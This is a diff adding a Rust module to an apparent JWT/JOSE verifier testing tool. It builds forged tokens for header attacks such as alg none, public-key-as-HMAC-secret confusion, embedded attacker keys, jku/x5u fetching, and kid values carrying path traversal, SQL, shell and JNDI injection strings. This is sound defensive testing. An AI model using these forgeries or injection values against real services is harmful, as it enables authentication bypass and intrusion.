@@ -1,0 +1,491 @@
+//! What the header says: algorithms, keys inside it, extensions.
+
+use serde_json::{Value, json};
+
+use super::{Attack, Family, JOSE};
+use crate::attack::forger::Stage;
+use crate::attack::forger::jws::{RawKey, b64, mac, unb64};
+use crate::attack::trial::{Act, Trial};
+
+const FAMILY: Family = Family::Header;
+
+pub(super) const ATTACKS: &[Attack] = &[
+    FAMILY.attack(
+        "alg-none",
+        "`alg` is `none`, and nothing is signed",
+        "an unsigned token is no token",
+        "CVE-2015-2951; RFC 8725 3.2",
+        alg_none,
+    ),
+    FAMILY.attack(
+        "alg-absent",
+        "the header has no `alg`",
+        "`alg` must be there",
+        "RFC 7515 4.1.1",
+        |s| {
+            vec![forged(
+                s,
+                "signed right, `alg` missing",
+                &[("alg", Value::Null)],
+            )]
+        },
+    ),
+    FAMILY.attack(
+        "alg-wrong-type",
+        "`alg` is no text",
+        "`alg` must be a text",
+        "RFC 7515 4.1.1",
+        |s| {
+            let values = [json!([s.alg]), json!({"0": s.alg}), json!(256), json!(true)];
+            let spelled = |v: Value| forged(s, format!("alg {v}"), &[("alg", v)]);
+            values.into_iter().map(spelled).collect()
+        },
+    ),
+    FAMILY.attack(
+        "alg-case",
+        "`alg` in other letters, signed with the right key",
+        "names of algorithms are compared exactly",
+        "RFC 7515 4.1.1",
+        |s| {
+            let lower = s.alg.to_lowercase();
+            [lower, format!("{} ", s.alg), format!("{}\0", s.alg)]
+                .into_iter()
+                .map(|alg| forged(s, format!("{alg:?}"), &[("alg", json!(alg))]))
+                .collect()
+        },
+    ),
+    FAMILY.attack(
+        "alg-sibling",
+        "another algorithm of the same kind of key",
+        "a key has one algorithm, and a token that names another is refused",
+        "RFC 8725 3.1",
+        alg_sibling,
+    ),
+    FAMILY.attack(
+        "public-key-as-secret",
+        "`alg` is HMAC, and its secret is the text of the public key",
+        "a public key is never a secret",
+        "CVE-2016-10555; PyJWT CVE-2022-29217",
+        public_key_as_secret,
+    ),
+    FAMILY.attack(
+        "embedded-jwk",
+        "the attacker's key in the header's `jwk`",
+        "keys in a header are not trusted",
+        "CVE-2018-0114; Authlib CVE-2026-27962",
+        |s| {
+            let jwk = public_jwk(s.stranger());
+            embedded(s, &[("jwk", jwk)], "jwk")
+        },
+    ),
+    FAMILY.attack(
+        "embedded-x5c",
+        "the attacker's key in the header's `x5c`",
+        "certificates in a header are not trusted",
+        "RFC 7515 4.1.6",
+        |s| {
+            let Some(pem) = s.stranger().public_pem() else {
+                return Vec::new();
+            };
+            let body: String = pem.lines().filter(|l| !l.starts_with('-')).collect();
+            embedded(
+                s,
+                &[("x5c", json!([body]))],
+                "the bare public key as its certificate",
+            )
+        },
+    ),
+    FAMILY.attack(
+        "keys-by-address",
+        "`jku` and `x5u` name an address of the attacker's",
+        "no address in a header is asked for keys",
+        "RFC 8725 3.10",
+        |s| {
+            ["jku", "x5u"]
+                .into_iter()
+                .map(|name| {
+                    let changes = [(name, json!(s.beacon)), ("kid", json!("attacker"))];
+                    let header = s.header(&changes);
+                    let token = s
+                        .stranger()
+                        .under(&header, s.claims().to_string().as_bytes());
+                    Trial::new(name, s.honest(), Act::NoFetch(token))
+                })
+                .collect()
+        },
+    ),
+    FAMILY.attack(
+        "kid-injection",
+        "`kid` is a path, a query or a command that yields a secret of the attacker's",
+        "a `kid` is an opaque name",
+        "jwt_tool playbook",
+        |s| {
+            kid_attack(
+                s,
+                &[
+                    "../../../../../../dev/null",
+                    "/dev/null",
+                    "x' UNION SELECT '';-- ",
+                    "x\" | echo ''",
+                    "${jndi:ldap://127.0.0.1/x}",
+                ],
+            )
+        },
+    ),
+    FAMILY.attack(
+        "kid-wrong-type",
+        "`kid` is no text",
+        "`kid` must be a text",
+        "RFC 7515 4.1.4",
+        |s| {
+            let control = s.with_header(&[("kid", json!("7"))]);
+            [json!(7), json!(["7"]), json!({}), json!(false)]
+                .into_iter()
+                .map(|kid| {
+                    let token = s.with_header(&[("kid", kid.clone())]);
+                    Trial::token(format!("kid {kid}"), &control, token)
+                })
+                .collect()
+        },
+    ),
+    Attack {
+        formats: JOSE,
+        ..FAMILY.attack(
+            "crit-unknown",
+            "`crit` names an extension that nobody knows",
+            "what is critical and not understood is refused",
+            "RFC 7515 4.1.11; Authlib CVE-2025-59420; PyJWT GHSA-752w-5fwx-jx9f",
+            |s| {
+                crit(
+                    s,
+                    &[("crit", json!(["x-unknown"])), ("x-unknown", json!(true))],
+                    "one",
+                )
+            },
+        )
+    },
+    Attack {
+        formats: JOSE,
+        ..FAMILY.attack(
+            "crit-malformed",
+            "`crit` is empty or no list of texts",
+            "`crit` must be a list of names that is not empty",
+            "RFC 7515 4.1.11",
+            |s| {
+                let values = [
+                    json!([]),
+                    json!("x-unknown"),
+                    json!({}),
+                    json!([7]),
+                    json!(true),
+                ];
+                values
+                    .into_iter()
+                    .flat_map(|v| {
+                        let name = format!("crit {v}");
+                        crit(s, &[("crit", v), ("x-unknown", json!(true))], &name)
+                    })
+                    .collect()
+            },
+        )
+    },
+    Attack {
+        formats: JOSE,
+        ..FAMILY.attack(
+            "crit-absent-member",
+            "`crit` names a member that the header does not have",
+            "what is critical must be there",
+            "RFC 7515 4.1.11",
+            |s| crit(s, &[("crit", json!(["exp"]))], "exp"),
+        )
+    },
+    Attack {
+        formats: JOSE,
+        ..FAMILY.attack(
+            "crit-registered",
+            "`crit` names a member of the specification itself",
+            "`crit` must not name what everybody knows",
+            "RFC 7515 4.1.11",
+            |s| crit(s, &[("crit", json!(["alg"]))], "alg"),
+        )
+    },
+    FAMILY.attack(
+        "b64-without-crit",
+        "`b64` is false without being critical, and the payload stands as it is",
+        "`b64` counts only when it is critical, and then must be known",
+        "RFC 7797 6",
+        |s| {
+            let claims = s.claims();
+            let text = unescaped(&claims);
+            let header = b64(s.header(&[("b64", json!(false))]));
+            vec![Trial::token(
+                "the payload unencoded",
+                s.honest(),
+                s.under_texts(&header, &text, b""),
+            )]
+        },
+    ),
+    FAMILY.attack(
+        "b64-in-jwt",
+        "`b64` is false and critical, in a JWT",
+        "a JWT's payload is encoded",
+        "RFC 7797 7",
+        |s| {
+            let header = b64(s.header(&[("b64", json!(false)), ("crit", json!(["b64"]))]));
+            let claims = s.claims();
+            let plain = s.under_texts(&header, &unescaped(&claims), b"");
+            let encoded = s.under_texts(&header, &b64(claims.to_string()), b"");
+            vec![
+                Trial::token("the payload unencoded", s.honest(), plain),
+                Trial::token("the payload encoded", s.honest(), encoded),
+            ]
+        },
+    ),
+    Attack {
+        formats: JOSE,
+        ..FAMILY.attack(
+            "header-duplicate-member",
+            "a member of the header comes twice",
+            "each name comes once",
+            "RFC 7515 4",
+            |s| {
+                let first = s.header(&[]).replacen('{', "{\"alg\":\"none\",", 1);
+                let last = s.header(&[]).replacen('}', ",\"alg\":\"none\"}", 1);
+                let typ = s.header(&[]).replacen('{', "{\"typ\":\"JOSE\",", 1);
+                [("alg first", first), ("alg last", last), ("typ", typ)]
+                    .map(|(name, header)| {
+                        Trial::token(
+                            name,
+                            s.honest(),
+                            s.under(header, s.claims().to_string().as_bytes()),
+                        )
+                    })
+                    .to_vec()
+            },
+        )
+    },
+    Attack {
+        formats: JOSE,
+        ..FAMILY.attack(
+            "header-member-case",
+            "`ALG` in the place of `alg`",
+            "names of members are compared exactly",
+            "RFC 7515 4; RFC 8259",
+            |s| {
+                let changes = [("alg", Value::Null), ("ALG", json!(s.alg))];
+                vec![Trial::token("ALG", s.honest(), s.with_header(&changes))]
+            },
+        )
+    },
+    Attack {
+        formats: JOSE,
+        ..FAMILY.attack(
+            "header-not-object",
+            "the header is JSON, and no object",
+            "a header is an object",
+            "RFC 7515 4",
+            |s| {
+                let claims = s.claims().to_string();
+                ["[]", "\"HS256\"", "7", "null", "true", ""]
+                    .map(|header| {
+                        Trial::token(
+                            format!("{header:?}"),
+                            s.honest(),
+                            s.under(header, claims.as_bytes()),
+                        )
+                    })
+                    .to_vec()
+            },
+        )
+    },
+    Attack {
+        formats: JOSE,
+        ..FAMILY.attack(
+            "header-trailing-data",
+            "something follows the header's object",
+            "nothing follows the header",
+            "RFC 7515 5.2",
+            |s| {
+                let (header, claims) = (s.header(&[]), s.claims().to_string());
+                ["{}", ",", "\0", "x"]
+                    .map(|more| {
+                        Trial::token(
+                            format!("{more:?}"),
+                            s.honest(),
+                            s.under(format!("{header}{more}"), claims.as_bytes()),
+                        )
+                    })
+                    .to_vec()
+            },
+        )
+    },
+    Attack {
+        formats: JOSE,
+        ..FAMILY.attack(
+            "header-not-utf8",
+            "a text in the header is not UTF-8",
+            "a header is UTF-8",
+            "RFC 7515 5.2",
+            |s| {
+                let mut header = s.header(&[]).into_bytes();
+                header.pop();
+                header.extend(b",\"x\":\"\xff\xfe\"}");
+                vec![Trial::token(
+                    "ff fe",
+                    s.honest(),
+                    s.under(header, s.claims().to_string().as_bytes()),
+                )]
+            },
+        )
+    },
+    FAMILY.attack(
+        "typ-wrong-type",
+        "`typ` is no text",
+        "`typ` must be a text",
+        "RFC 7515 4.1.9",
+        |s| {
+            [json!(7), json!(["JWT"]), json!({})]
+                .into_iter()
+                .map(|typ| {
+                    let token = s.with_header(&[("typ", typ.clone())]);
+                    Trial::token(format!("typ {typ}"), s.honest(), token)
+                })
+                .collect()
+        },
+    ),
+];
+
+/// An authentic token but for its header's changes.
+fn forged(stage: &Stage, spelling: impl Into<String>, changes: &[(&str, Value)]) -> Trial {
+    Trial::token(spelling, stage.honest(), stage.with_header(changes))
+}
+
+fn alg_none(stage: &Stage) -> Vec<Trial> {
+    let payload = b64(stage.claims().to_string());
+    let honest = stage.honest();
+    let signature = honest.rsplit('.').next().unwrap_or_default();
+    let mut trials = Vec::new();
+    for none in ["none", "None", "NONE", "nOnE", "none ", ""] {
+        let header = b64(json!({"alg": none, "typ": "JWT"}).to_string());
+        trials.push(Trial::token(
+            format!("{none:?}"),
+            &honest,
+            format!("{header}.{payload}."),
+        ));
+        let kept = format!("{header}.{payload}.{signature}");
+        trials.push(Trial::token(
+            format!("{none:?}, with a signature"),
+            &honest,
+            kept,
+        ));
+    }
+    trials
+}
+
+fn alg_sibling(stage: &Stage) -> Vec<Trial> {
+    let family = match &stage.alg[..2] {
+        "HS" => ["HS256", "HS384", "HS512"].as_slice(),
+        "RS" | "PS" => &["RS256", "RS384", "RS512", "PS256", "PS384", "PS512"],
+        _ => &[],
+    };
+    let Some(key) = stage.raw() else {
+        return Vec::new();
+    };
+    let others = family.iter().filter(|alg| **alg != stage.alg);
+    others
+        .map(|alg| {
+            let header = b64(stage.header(&[("alg", json!(alg))]));
+            let token = key.token(alg, &header, &b64(stage.claims().to_string()));
+            Trial::token(*alg, stage.honest(), token.unwrap_or_default())
+        })
+        .collect()
+}
+
+fn public_key_as_secret(stage: &Stage) -> Vec<Trial> {
+    let Some(pem) = stage.public_pem() else {
+        return Vec::new();
+    };
+    let jwk = public_jwk(stage).to_string();
+    let body: String = pem.lines().filter(|l| !l.starts_with('-')).collect();
+    let der = base64_simd::STANDARD
+        .decode_to_vec(&body)
+        .unwrap_or_default();
+    let unix = pem.trim_end().to_owned();
+    let secrets = [
+        ("PEM", format!("{unix}\n").into_bytes()),
+        ("PEM without its last line end", unix.clone().into_bytes()),
+        ("PEM with CR LF", unix.replace('\n', "\r\n").into_bytes()),
+        ("PEM in one line", body.into_bytes()),
+        ("DER", der),
+        ("JWK", jwk.into_bytes()),
+    ];
+    let payload = b64(stage.claims().to_string());
+    let mut trials = Vec::new();
+    for (form, secret) in secrets {
+        for alg in ["HS256", "HS512"] {
+            let header = b64(json!({"alg": alg, "typ": "JWT"}).to_string());
+            let token = RawKey::Secret(secret.clone()).token(alg, &header, &payload);
+            trials.push(Trial::token(
+                format!("{alg}, {form}"),
+                stage.honest(),
+                token.unwrap_or_default(),
+            ));
+        }
+    }
+    trials
+}
+
+/// The public half of the stage's key; of a secret, the secret.
+pub(super) fn public_jwk(stage: &Stage) -> Value {
+    let keys = stage.keys();
+    keys.public.or(keys.private).unwrap_or_default()
+}
+
+/// A token of the stranger's that brings its own key.
+fn embedded(stage: &Stage, changes: &[(&str, Value)], spelling: &str) -> Vec<Trial> {
+    let header = stage.header(changes);
+    let token = stage
+        .stranger()
+        .under(header, stage.claims().to_string().as_bytes());
+    vec![Trial::token(spelling, stage.honest(), token)]
+}
+
+fn kid_attack(stage: &Stage, kids: &[&str]) -> Vec<Trial> {
+    let payload = b64(stage.claims().to_string());
+    kids.iter()
+        .map(|kid| {
+            let control = stage.with_header(&[("kid", json!(kid))]);
+            let header = b64(json!({"alg": "HS256", "typ": "JWT", "kid": kid}).to_string());
+            let input = format!("{header}.{payload}");
+            let empty = mac("HS256", b"", input.as_bytes()).unwrap_or_default();
+            Trial::token(*kid, control, format!("{input}.{}", b64(empty)))
+        })
+        .collect()
+}
+
+/// The control is the same header without `crit`, so that a member nobody knows is allowed.
+fn crit(stage: &Stage, changes: &[(&str, Value)], spelling: &str) -> Vec<Trial> {
+    let without: Vec<_> = changes
+        .iter()
+        .filter(|(name, _)| *name != "crit")
+        .cloned()
+        .collect();
+    let control = stage.with_header(&without);
+    vec![Trial::token(spelling, control, stage.with_header(changes))]
+}
+
+/// Claims as JSON without a dot, which would part an unencoded payload.
+fn unescaped(claims: &Value) -> String {
+    claims.to_string().replace('.', "\\u002e")
+}
+
+/// The bytes of the signature of a token.
+pub(super) fn signature_of(token: &str) -> Vec<u8> {
+    unb64(token.rsplit('.').next().unwrap_or_default())
+}
+
+/// The token with another signature.
+pub(super) fn resigned(token: &str, signature: &[u8]) -> String {
+    let input = token.rsplit_once('.').map_or("", |(input, _)| input);
+    format!("{input}.{}", b64(signature))
+}
